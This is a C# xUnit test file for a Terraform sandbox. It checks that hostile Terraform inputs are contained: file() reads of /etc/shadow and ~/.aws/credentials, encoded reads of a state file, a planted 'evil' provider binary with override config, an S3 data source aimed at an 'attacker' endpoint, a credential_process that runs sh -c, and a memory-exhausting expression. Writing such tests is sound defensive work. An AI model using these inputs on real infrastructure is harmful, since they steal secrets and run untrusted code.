using System.Net;
using System.Net.Sockets;
using System.Text;
using McpInfra.TestKit;
using McpInfra.Tools.Git;
using McpInfra.Tools.Plans;
using McpInfra.Tools.Plans.Engines.Terraform;
using McpInfra.Tools.Plans.Engines.Terraform.Providers;
using McpInfra.Tools.Plans.State;
using McpInfra.Tools.Sandbox.Egress;
using Xunit;
using SandboxNeeds = McpInfra.Tools.Tests.Sandbox.Needs;

namespace McpInfra.Tools.Tests.Plans;

/// <summary>Hostile code run by the real terraform as if no rule had read it before: the layer below the rules holds by itself.</summary>
public sealed class The_cage_under_terraform
{
    private const string Secret = "hunter2-correct-horse";

    [Theory]
    [InlineData("file(\"/etc/shadow\")")]
    [InlineData("file(\"/etc/passwd\")")]
    [InlineData("filebase64(\"/proc/1/environ\")")]
    [InlineData("file(pathexpand(\"~/.aws/credentials\"))")]
    public async Task Lets_functions_read_nothing_of_the_machine(string expression)
    {
        var outcome = await RunAsync($"resource \"terraform_data\" \"a\" {{\n  input = {expression}\n}}\n");
        Assert.Equal("plan", outcome.FailedStep);
    }

    [Theory]
    [InlineData("file(\"${path.root}/../state/terraform.tfstate\")")]
    [InlineData("strrev(file(\"${path.root}/../state/terraform.tfstate\"))")]
    [InlineData("base64encode(file(\"${path.root}/../state/terraform.tfstate\"))")]
    [InlineData("file(\"/proc/self/environ\")")]
    [InlineData("jsonencode(fileset(\"/\", \"{home,root,var,etc,tmp}/**\"))")]
    public async Task Lets_functions_read_only_what_holds_no_secret(string expression)
    {
        Environment.SetEnvironmentVariable("CANARY", Secret);
        var outcome = await RunAsync($"resource \"terraform_data\" \"a\" {{\n  input = {expression}\n}}\n");
        var plan = Encoding.UTF8.GetString(outcome.Plan) + Encoding.UTF8.GetString(outcome.Errors);
        Assert.DoesNotContain(Secret, plan, StringComparison.Ordinal);
        Assert.DoesNotContain(new string([.. Secret.Reverse()]), plan, StringComparison.Ordinal);
        Assert.DoesNotContain(Convert.ToBase64String(Encoding.UTF8.GetBytes(Secret))[..20], plan, StringComparison.Ordinal);
        Assert.DoesNotContain("/root", plan, StringComparison.Ordinal);
        Assert.DoesNotContain("shadow", plan, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Takes_no_provider_binary_from_the_tree()
    {
        const string code = "terraform {\n  required_providers {\n    evil = { source = \"evil/evil\" }\n  }\n}\nresource \"evil_thing\" \"a\" {}\n";
        var script = "#!/bin/sh\necho pwned\n";
        var outcome = await RunAsync(code, needsNetwork: true, more:
        [
            ("terraform.d/plugins/registry.terraform.io/evil/evil/1.0.0/linux_amd64/terraform-provider-evil_v1.0.0", script),
            (".terraform/providers/registry.terraform.io/evil/evil/1.0.0/linux_amd64/terraform-provider-evil_v1.0.0", script),
            (".terraformrc", "provider_installation {\n  dev_overrides {\n    \"evil/evil\" = \"./terraform.d\"\n  }\n}\n"),
        ]);
        Assert.Equal("init", outcome.FailedStep);
    }

    [Fact]
    public async Task Lets_an_attackers_provider_alias_send_nothing_to_an_endpoint_that_is_not_listed()
    {
        using var attacker = new TcpListener(IPAddress.Loopback, 0);
        attacker.Start();
        var port = ((IPEndPoint)attacker.LocalEndpoint).Port;
        using var folder = new ScratchFolder();
        var outcome = await RunAsync(Aws("http://attacker:" + port, "data \"aws_s3_objects\" \"leak\" {\n  bucket = \"attacker\"\n  prefix = \"state\"\n}\n"), needsNetwork: true, cliConfig: folder.Mirror(), egress: [new Endpoint("awsmoto", 5555)]);
        Assert.Equal("plan", outcome.FailedStep);
        Assert.False(attacker.Pending());
        Assert.Contains(outcome.Reached, reached => reached.Endpoint == $"attacker:{port}" && !reached.Allowed);
        Assert.DoesNotContain(outcome.Reached, reached => reached.Allowed);
    }

    [Fact]
    public async Task Has_no_shell_for_a_credential_process()
    {
        using var folder = new ScratchFolder();
        var code = Aws("http://awsmoto:5555", "data \"aws_s3_bucket\" \"b\" {\n  bucket = \"b\"\n}\n")
            .Replace("access_key = \"test\"", "shared_config_files = [\"${path.root}/config\"]", StringComparison.Ordinal).Replace("secret_key = \"test\"", "profile = \"evil\"", StringComparison.Ordinal);
        var outcome = await RunAsync(code, needsNetwork: true, cliConfig: folder.Mirror(), egress: [new Endpoint("awsmoto", 5555)],
            more: [("config", "[profile evil]\ncredential_process = sh -c 'echo {\\\"Version\\\":1,\\\"AccessKeyId\\\":\\\"a\\\",\\\"SecretAccessKey\\\":\\\"b\\\"}'\n")]);
        Assert.Equal("plan", outcome.FailedStep);
        Assert.DoesNotContain(outcome.Reached, reached => reached.Allowed);
    }

    [Fact]
    public async Task Ends_an_expression_that_eats_memory()
    {
        Ran? outcome = null;
        var ended = await Record.ExceptionAsync(async () => outcome = await RunAsync(
            "locals {\n  a = [for i in range(1000) : [for j in range(1000) : [for k in range(1000) : \"${i}${j}${k}\"]]]\n}\nresource \"terraform_data\" \"a\" {\n  input = local.a\n}\n",
            limits: new() { Memory = 250 << 20 }));

        // Its own limit or the watch on all of them, whichever is first.
        Assert.True(outcome?.FailedStep == "plan" || (ended as McpInfra.Tools.Sandbox.SandboxException)!.Message.Contains("of memory", StringComparison.Ordinal));
    }

    internal static string Aws(string endpoint, string rest) => $$"""
        provider "aws" {
          region                      = "us-east-1"
          access_key = "test"
          secret_key = "test"
          s3_use_path_style           = true
          skip_credentials_validation = true
          skip_requesting_account_id  = true
          skip_metadata_api_check     = true
          max_retries                 = 1
          endpoints {
            s3  = "{{endpoint}}"
            sqs = "{{endpoint}}"
          }
        }
        {{rest}}
        """;

    private static async Task<Ran> RunAsync(
        string code, bool needsNetwork = false, string? cliConfig = null, IReadOnlyList<Endpoint>? egress = null, IReadOnlyList<(string, string)>? more = null, McpInfra.Tools.Sandbox.SandboxLimits? limits = null)
    {
        Skip.UnlessFound("terraform");
        var state = StateSanitizer.Sanitize(StackState.Parse(Encoding.UTF8.GetBytes($$$"""
            {"version":4,"terraform_version":"1.5.0","serial":1,"lineage":"l","outputs":{"o":{"value":"{{{Secret}}}","type":"string","sensitive":true}},"resources":[]}
            """)), new(new byte[32]));
        IEnumerable<(string Path, string Text)> files = [("main.tf", code), .. more ?? []];
        var program = TerraformProgram.Find(new EngineSettings(CliConfig: cliConfig));
        using var scratch = new ScratchFolder();
        using var providers = new ProviderPackages(new PackageCache(scratch.Path));
        using var packages = cliConfig is null ? PackageSet.Empty : await providers.OfAsync(
            program.Config, [new RequiredProvider(ProviderAddress.Parse("hashicorp/aws")!, [])], null, ProviderPackages.Platform(McpInfra.Tools.Sandbox.SandboxKind.Bubblewrap), TestContext.Current.CancellationToken);
        var input = new TerraformInput([.. files.Select(file => (file.Path, new Func<byte[]>(() => Encoding.UTF8.GetBytes(file.Text))))], ".", "default", state, egress ?? []) { Packages = packages };
        await using var proxy = needsNetwork ? EgressProxy.Start(outside: new Outside { Resolve = (_, _) => Task.FromResult<IPAddress[]>([IPAddress.Loopback]) }) : null;
        await using var run = await TerraformRun.OpenAsync(await SandboxNeeds.BubblewrapAsync(), program, packages, proxy, limits ?? new(), TestContext.Current.CancellationToken);
        var outcome = await run.PlanAsync(input, TestContext.Current.CancellationToken);
        return new(outcome.FailedStep, outcome.Plan, outcome.Errors, proxy?.Records ?? []);
    }

    private sealed record Ran(string? FailedStep, byte[] Plan, byte[] Errors, IReadOnlyList<EgressRecord> Reached);
}
